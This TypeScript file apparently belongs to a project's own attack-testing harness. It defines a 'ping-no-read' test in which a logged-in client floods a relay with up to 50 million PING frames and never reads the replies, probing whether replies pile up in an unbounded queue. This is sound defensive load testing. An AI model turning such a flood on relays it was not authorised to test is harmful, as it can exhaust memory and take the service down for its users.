// A logged-in client that sends PINGs as fast as it can and never reads: every PING asks the relay
// for a reply it must queue (issue 22, finding 3). Bounded at MAX_PINGS.
import { rawClient } from '../lib/raw-client.js'
import { encodeHeader, Flag, FrameType } from '../../shared/wire/index.js'
import type { Attack } from './attack.js'

const MAX_PINGS = 50_000_000
const BATCH = 4096

export const pingNoRead: Attack = {
  name: 'ping-no-read',
  what: 'one logged-in client sends PINGs and never reads the replies',
  run: async (target, signal) => {
    const c = await rawClient(target, 'attack-ping', { read: false })
    const batch = Buffer.concat(Array.from({ length: BATCH }, (_, i) => encodeHeader(FrameType.PING, Flag.SYN, 0, i)))
    let sent = 0
    let closed = false
    c.socket.once('close', () => { closed = true })
    while (!signal.aborted && !closed && sent < MAX_PINGS) {
      c.send([batch])
      sent += BATCH
      // Let the socket drain into the kernel (it stops when the relay stops reading).
      if (c.socket.writableLength > 4 * 1024 * 1024) await new Promise((resolve) => setTimeout(resolve, 20))
      else await new Promise((resolve) => setImmediate(resolve))
    }
    c.close()
    return { sent, unit: 'pings', note: closed ? 'the relay closed the session' : 'the session stayed open' }
  },
}
